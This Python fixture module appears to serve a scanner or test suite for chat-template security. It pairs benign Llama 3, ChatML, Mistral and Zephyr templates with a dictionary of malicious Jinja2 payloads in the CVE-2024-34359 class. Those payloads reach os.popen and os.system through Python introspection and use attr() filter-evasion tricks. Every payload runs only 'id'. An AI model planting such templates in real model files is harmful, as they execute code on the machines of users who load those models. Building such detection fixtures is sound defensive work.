"""Chat templates: real ones (benign) and CVE-2024-34359-class payloads."""

from __future__ import annotations

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\n\n'"
    " + message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\n\n' }}"
    "{% endif %}"
)
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + "
    "message['content'] + '<|im_end|>' + '\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)
MISTRAL = (
    "{{ bos_token }}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}"
    "{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}"
    "{% endif %}{% endfor %}"
)
ZEPHYR = (
    "{% for message in messages %}\n{% if message['role'] == 'user' %}\n"
    "{{ '<|user|>\n' + message['content'] + eos_token }}\n"
    "{% elif message['role'] == 'system' %}\n"
    "{{ '<|system|>\n' + message['content'] + eos_token }}\n"
    "{% elif message['role'] == 'assistant' %}\n"
    "{{ '<|assistant|>\n'  + message['content'] + eos_token }}\n{% endif %}\n"
    "{% if loop.last and add_generation_prompt %}\n{{ '<|assistant|>' }}\n{% endif %}\n"
    "{% endfor %}"
)
TOOL_USE = (
    "{%- if tools %}{{- '<|im_start|>system\\n# Tools\\n' }}{%- for tool in tools %}"
    "{{- tool | tojson }}{%- endfor %}{{- '<|im_end|>\\n' }}{%- endif %}"
    "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\\n' + message.content"
    " + '<|im_end|>\\n' }}{%- endfor %}{%- if add_generation_prompt %}"
    "{{- '<|im_start|>assistant\\n' }}{%- endif %}"
)

BENIGN = {"llama3": LLAMA3, "chatml": CHATML, "mistral": MISTRAL, "zephyr": ZEPHYR}

CVE = "https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829"

# name -> (template, technique)
MALICIOUS = {
    "subclasses_builtins": (
        '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}'
        "{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{% endif %}"
        "{% endfor %}" + CHATML,
        "__subclasses__",
    ),
    "cycler_globals": (
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}" + CHATML,
        "__globals__ via cycler",
    ),
    "joiner_globals": (
        CHATML + "{{ joiner.__init__.__globals__['os'].system('id') }}",
        "__globals__ via joiner",
    ),
    "lipsum_globals": (
        "{% set o = lipsum.__globals__['os'] %}{{ o.popen('id').read() }}" + LLAMA3,
        "__globals__ via lipsum",
    ),
    "namespace_globals": (
        "{{ namespace.__init__.__globals__.__builtins__.__import__('os').system('id') }}",
        "__globals__ via namespace",
    ),
    "self_context": (
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id') }}",
        "self introspection",
    ),
    "attr_escaped": (
        "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen('id').read() }}",
        "attr() escaped name",
    ),
    "attr_concatenated": (
        "{% set g = '__glo' ~ 'bals__' %}{% set b = '__buil' + 'tins__' %}"
        "{{ (cycler.__init__|attr(g))[b]['__import__']('os').system('id') }}",
        "attr() concatenated name",
    ),
    "attr_format": (
        "{% set n = '%c%cclass%c%c'|format(95,95,95,95) %}"
        "{{ ((''|attr(n))|attr('%c%cmro%c%c'|format(95,95,95,95)))[1]"
        "|attr('%c%csubclasses%c%c'|format(95,95,95,95)) }}",
        "attr() formatted name",
    ),
}
